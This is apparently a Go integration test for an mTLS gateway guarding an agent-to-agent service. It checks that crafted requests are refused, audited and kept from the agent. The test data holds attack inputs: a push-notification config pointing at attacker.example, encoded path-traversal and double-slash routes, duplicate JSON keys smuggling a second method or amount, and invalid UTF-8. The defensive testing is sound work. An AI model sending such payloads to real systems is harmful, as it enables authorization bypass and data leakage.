package gate_test

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/spiffe/go-spiffe/v2/spiffetls/tlsconfig"
	"github.com/spiffe/go-spiffe/v2/svid/x509svid"

	"github.com/warden-a2a/warden/internal/gate"
	"github.com/warden-a2a/warden/sdk"
)

// rawAnswer is what a raw request got back: the HTTP status, and the reason code of the
// refusal in whichever binding it came (JSON-RPC error object or google.rpc.Status).
type rawAnswer struct {
	status  int
	jsonrpc bool   // the answer is a JSON-RPC response
	reason  string // metadata.reason of the refusal; "" when not refused
	id      string // decision id of the refusal
	body    string
}

// rawRequest writes one HTTP/1.1 request byte for byte on a fresh mTLS connection to
// the gate (net/http's client would canonicalize or refuse some of what the attacks
// send) and reads the answer.
func rawRequest(t *testing.T, e *env, addr string, svid *x509svid.SVID, head string, body []byte) rawAnswer {
	t.Helper()
	tc := tlsconfig.MTLSClientConfig(staticSource{svid}, e.ca.X509Bundle(), tlsconfig.AuthorizeAny())
	conn, err := tls.Dial("tcp", addr, tc)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	if !strings.Contains(head, "\r\nContent-Length:") {
		head = strings.TrimSuffix(head, "\r\n") + "\r\nContent-Length: " + itoa(len(body)) + "\r\n"
	}
	if _, err := io.WriteString(conn, head+"Connection: close\r\n\r\n"+string(body)); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	a := rawAnswer{status: res.StatusCode, body: string(b)}
	var rpc rpcAnswer
	var ver struct {
		JSONRPC string `json:"jsonrpc"`
	}
	if json.Unmarshal(b, &ver) == nil && ver.JSONRPC == "2.0" && json.Unmarshal(b, &rpc) == nil {
		a.jsonrpc = true
		if rpc.Error != nil {
			a.reason = rpc.Error.reason()
			if len(rpc.Error.Data) == 1 {
				a.id = rpc.Error.Data[0].Metadata["decision_id"]
			}
		}
		return a
	}
	var st struct {
		Error *struct {
			Details []struct {
				Metadata map[string]string `json:"metadata"`
			} `json:"details"`
		} `json:"error"`
	}
	if json.Unmarshal(b, &st) == nil && st.Error != nil && len(st.Error.Details) == 1 {
		a.reason, a.id = st.Error.Details[0].Metadata["reason"], st.Error.Details[0].Metadata["decision_id"]
	}
	return a
}

// signedHead is a request head carrying an intent for body, so that the only thing
// wrong with the request is what the test puts in it.
func signedHead(c *caller, method, target string, body []byte, extra ...string) string {
	h := method + " " + target + " HTTP/1.1\r\nHost: vendor-portal\r\nContent-Type: application/json\r\n" +
		sdk.IntentHeader + ": " + c.sign(poIntent(), body) + "\r\n"
	for _, x := range extra {
		h += x + "\r\n"
	}
	return h
}

// TestClassificationAttacksThroughGate: issue 13 item 1 through a real gate with the
// unmodified a2a-go agent behind it (JSON-RPC on every path but /rest, HTTP+JSON under
// /rest): each request is refused with its reason in the caller's binding, audited
// with that reason and its method, and never reaches the agent.
func TestClassificationAttacksThroughGate(t *testing.T) {
	e := newEnv(t)
	ag := startAgent(t)
	in, _ := e.inbound(ag.url, nil)
	addr := startGate(t, in, "tcp")
	// A gate whose agent serves HTTP+JSON at the root (a2a-go's routes unprefixed).
	root, _ := e.inbound(ag.url, func(c *gate.Config) { c.Routes = gate.Routes{} })
	rootAddr := startGate(t, root, "tcp")
	proc := e.svid("/agent/procurement")
	c := e.caller(t, addr, proc)

	push := []byte(`{"jsonrpc":"2.0","id":"7","method":"CreateTaskPushNotificationConfig","params":{"taskId":"t1","url":"https://attacker.example/hook"}}`)
	for _, tc := range []struct {
		name    string
		addr    string
		method  string
		target  string
		body    []byte
		reason  string
		jsonrpc bool // the refusal is a JSON-RPC error object with HTTP 200
	}{
		{"push-config body on the SendMessage route", addr, "POST", "/rest/message:send", push, gate.ReasonUnknownMethod, false},
		{"push-config body on /message:send before a catch-all JSON-RPC agent", addr, "POST", "/message:send", push, gate.ReasonUnknownMethod, false},
		{"push-config body on the SendMessage route at the root", rootAddr, "POST", "/message:send", push, gate.ReasonUnknownMethod, false},
		{"escaped slash", addr, "GET", "/rest/tasks/t1%2FpushNotificationConfigs", nil, gate.ReasonUnknownMethod, false},
		{"escaped dot-dot", addr, "GET", "/rest/tasks/%2e%2e", nil, gate.ReasonUnknownMethod, false},
		{"escaped dot-dot before a route", addr, "POST", "/rest/%2e%2e/message:send", []byte(restSend), gate.ReasonUnknownMethod, false},
		{"double slash", addr, "POST", "/rest//message:send", []byte(restSend), gate.ReasonUnknownMethod, false},
		{"GET /anything/tasks", addr, "GET", "/anything/tasks", nil, gate.ReasonUnknownMethod, false},
		{"route under an unrelated prefix", addr, "POST", "/acme/message:send", []byte(restSend), gate.ReasonUnknownMethod, false},
		{"duplicate JSON-RPC method", addr, "POST", "/", []byte(`{"jsonrpc":"2.0","id":"7","method":"SendMessage","method":"CreateTaskPushNotificationConfig","params":{}}`), gate.ReasonInvalidRequest, true},
		{"JSON-RPC method differing in case", addr, "POST", "/", []byte(dupMethod), gate.ReasonInvalidRequest, true},
		{"duplicate key deep in the metadata", addr, "POST", "/", []byte(`{"jsonrpc":"2.0","id":"7","method":"SendMessage","params":{"message":{"metadata":{"warden.amount":1,"warden.amount":90000}}}}`), gate.ReasonInvalidRequest, true},
		{"invalid UTF-8", addr, "POST", "/", []byte("{\"jsonrpc\":\"2.0\",\"id\":\"7\",\"method\":\"SendMessage\",\"params\":{\"x\":\"\xc3\x28\"}}"), gate.ReasonInvalidRequest, true},
		{"JSON-RPC batch", addr, "POST", "/", []byte(`[` + rpcCall("SendMessage") + `]`), gate.ReasonInvalidRequest, true},
		{"GET on the JSON-RPC path", addr, "GET", "/", nil, gate.ReasonUnknownMethod, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := len(ag.seen)
			a := rawRequest(t, e, tc.addr, proc, signedHead(c, tc.method, tc.target, tc.body), tc.body)
			if a.reason != tc.reason || a.jsonrpc != tc.jsonrpc || (tc.jsonrpc && a.status != 200) || (!tc.jsonrpc && a.status != 400) {
				t.Fatalf("answer %d jsonrpc=%v reason %q: %s", a.status, a.jsonrpc, a.reason, a.body)
			}
			ev := e.events.last()
			if ev.DecisionID != a.id || ev.Allow || ev.Reason != tc.reason || ev.Peer != proc.ID.String() {
				t.Errorf("audit event %+v", ev)
			}
			if len(ag.seen) != before {
				t.Errorf("the agent received the refused request")
			}
		})
	}
	// The method the agent runs is the one audited.
	t.Run("audited method is the one dispatched", func(t *testing.T) {
		b := rpcBody("purchase_order.create", "Order/PO-1")
		a := rawRequest(t, e, addr, proc, signedHead(c, "POST", "/", b), b)
		if a.status != 200 || a.reason != "" {
			t.Fatalf("answer %d %s", a.status, a.body)
		}
		if ev := e.events.last(); !ev.Allow || ev.Method != gate.MethodSendMessage {
			t.Errorf("audit event %+v", ev)
		}
	})
}
